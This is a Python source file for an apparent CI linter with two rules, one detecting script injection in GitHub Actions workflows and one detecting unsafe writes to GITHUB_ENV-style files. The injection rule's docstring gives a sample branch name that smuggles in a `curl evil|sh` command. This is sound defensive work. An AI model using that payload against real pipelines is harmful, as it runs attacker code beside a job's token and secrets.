"""M5, M13: text of other people that becomes code or settings."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from mlcicd.lint.document import Document, Node
from mlcicd.lint.expressions import expressions, inside
from mlcicd.lint.model import SEVERITIES, Finding, Severity
from mlcicd.lint.rule import Rule
from mlcicd.lint.shell import Command, Script
from mlcicd.lint.values import behind
from mlcicd.lint.workflows import codes, scripts, steps

_BOOLEAN = re.compile(
    r"\b(?:contains|startswith|endswith|hashfiles)\([^()]*\)|(?<![\w.*\[\]-])[\w.*\[\]-]++\s*[=!]=\s*(?:''|[\w.-]+)|''\s*[=!]=\s*[\w.-]+"
)
_STRING = re.compile(r"'[^']*'")
# Text that somebody types. Not: numbers, hashes, dates, and what the forge or the repository's owner names.
_TYPED = re.compile(
    r"""\bgithub\.head_ref\b|(?<![\w.-])github\.event\.(?!inputs\b|(?:repository|organization|enterprise|workflow|release|merge_group)\.)
        (?:(?:[\w-]+|\*)\.)*(?:title|body|message|label|head_branch|head_ref|page_name|email|name|display_title
        |default_branch|head\.ref)(?![\w.-])
      | tojson\([ ]?github(?:\.event(?:\.[\w-]*?(?:request|issue|comment|review|discussion|commits?|run|labels?))?)?
        (?:\.\*)?[ ]?\)
      | (?<![\w.-])github(?:\.event(?:\.(?!inputs\b)(?:[\w-]+|\*))*)?[ ]?\[""",
    re.VERBOSE,
)
_GIVEN = re.compile(
    r"(?<![\w.])(?:github\.event\.)?inputs\.(?P<input>[\w-]+)|\btojson\( ?(?:github\.event\.)?inputs ?\)"
    r"|\bgithub\.ref_name\b"
)
_OUTPUT = re.compile(r"\bsteps\.(?P<step>[\w-]+)\.outputs\b")
_HARMLESS_INPUTS = frozenset({"boolean", "number", "choice", "environment"})

_FILE = re.compile(r"(?:>>?\s*|\btee\s+(?:-a\s+|--append\s+)?)['\"]?\$\{?(GITHUB_(?:ENV|PATH|OUTPUT))\b")
_CONTENT = re.compile(
    r"""(?:\$\(|`)\s*(?:(?:curl|wget|gh)\b|(?:cat\s|<)(?![^)`]{0,300}version)[^)`]{0,300}\.(?:json|md|csv|log|ya?ml|txt|html)\b)""",
    re.IGNORECASE,
)
_RANDOM_END = re.compile(r"<<['\"]?\s*['\"]?\$|<<%s|uuidgen|openssl rand|/dev/urandom|\$RANDOM|secrets\.token")


class Injection(Rule):
    """No text of other people's inside a script.

    Why: `${{ }}` is pasted into the script before the shell reads it. A branch called `a";curl evil|sh;"`, a title or
    an input becomes commands, beside the job's token and secrets.

    Instead: hand the value over by `env:` and quote it: `python train.py --branch "$BRANCH"`. In github-script, read
    `process.env.BRANCH`.
    """

    id = "M5"
    severity = "error"
    platforms = ("github",)
    kinds = ("workflow", "action")
    remedy = "hand it over by `env:` and quote it"

    def check(self, doc: Document) -> Iterator[Finding]:
        """What anyone types is an error, what a caller gives a warning, what a script of the job printed a note."""
        printed = frozenset(step.node.get("id").text.lower() for step in steps(doc) if step.node.get("run"))
        values: dict[int, Severity | None] = {}  # of variables, whose text may be long, by where they stand
        for step, code in codes(doc):
            for one in expressions(code):
                found = [_weight(doc, one.text, printed)]
                for value in behind(step, one.text):  # it is pasted just the same
                    if value.start not in values:
                        values[value.start] = weight(doc, value.text, printed)
                    found.append(values[value.start])
                if severity := _worst(found):
                    message = f"{step.label}: `{one.shown}` is pasted into the script"
                    yield self.at(code, message, part=one.part, severity=severity)


def weight(doc: Document, text: str, printed: frozenset[str]) -> Severity | None:
    """Return how bad it is to run what an expression becomes; None for what nobody types.

    Args:
        doc: which tells what an input can be.
        text: with `${{ }}`.
        printed: ids of steps whose outputs a script makes.
    """
    return _worst([_weight(doc, expression, printed) for expression in inside(text)])


def _worst(found: Iterable[Severity | None]) -> Severity | None:
    there = set(found)
    return next((one for one in SEVERITIES if one in there), None)


def _weight(doc: Document, text: str, printed: frozenset[str]) -> Severity | None:
    expression = _BOOLEAN.sub("", _STRING.sub("''", text))
    if _TYPED.search(expression):
        return "error"
    given = _GIVEN.search(expression)
    if given and not _is_harmless(doc, given["input"]):
        # Only this repository's own workflows call what is kept there.
        return "note" if "/.github/actions/" in f"/{doc.path}" else "warning"
    output = _OUTPUT.search(expression)
    return "note" if output and output["step"] in printed else None


def _is_harmless(doc: Document, name: str | None) -> bool:
    """Whether an input can only be what the file itself lists, or a number."""
    events = (
        [_named(doc.root.at("on", event, "inputs"), name) for event in ("workflow_dispatch", "workflow_call")]
        if name
        else []
    )
    declared = [event for event in events if event]
    return bool(declared) and all(event.get("type").text in _HARMLESS_INPUTS for event in declared)


def _named(inputs: Node, name: str) -> Node:
    """An input by its name in small letters."""
    written = next((key for key in inputs.keys() if key.lower() == name), name)  # noqa: SIM118
    return inputs.get(written)


class EnvironmentFile(Rule):
    """What a program printed is not copied whole into `GITHUB_ENV`, `GITHUB_PATH` or `GITHUB_OUTPUT`.

    Why: each line of these files is a setting. A report, a metric or an answer of a server with a line break in it sets
    any variable it likes, and `LD_PRELOAD`, `PATH` or `BASH_ENV` in a later step is code.

    Instead: write one value that you have checked to be one line. For text of several lines use `name<<$END` with a
    random end such as `END=$(uuidgen)`.
    """

    id = "M13"
    severity = "warning"
    platforms = ("github",)
    kinds = ("workflow", "action")

    def check(self, doc: Document) -> Iterator[Finding]:
        """Fixed text, and single values that the script makes, are how these files are used."""
        for script in scripts(doc):
            if "GITHUB_" not in script.text or _RANDOM_END.search(script.text):
                continue
            before = ""
            for command in script.commands:
                printed = before in ("echo", "printf") and command.runs("tee")
                before = command.argv[0] if command.argv and command.after == "|" else ""
                if not printed and (name := self._copied(script, command)):
                    message = (
                        f"{script.label}: what `{command.argv[0]}` brings is copied into `{name}`, line breaks too"
                    )
                    yield self.at(script.node, message, part=script.part(command))

    def _copied(self, script: Script, command: Command) -> str:
        text = script.text[command.start : command.end]
        file = _FILE.search(text)
        if not file or not command.argv or "<<" in text:
            return ""
        program = command.argv[0]
        if program in ("echo", "printf"):
            return file[1] if _CONTENT.search(text) else ""
        copies = program == "cat" or (file[1] != "GITHUB_OUTPUT" and program not in (">>", ">", "}"))
        return file[1] if copies else ""
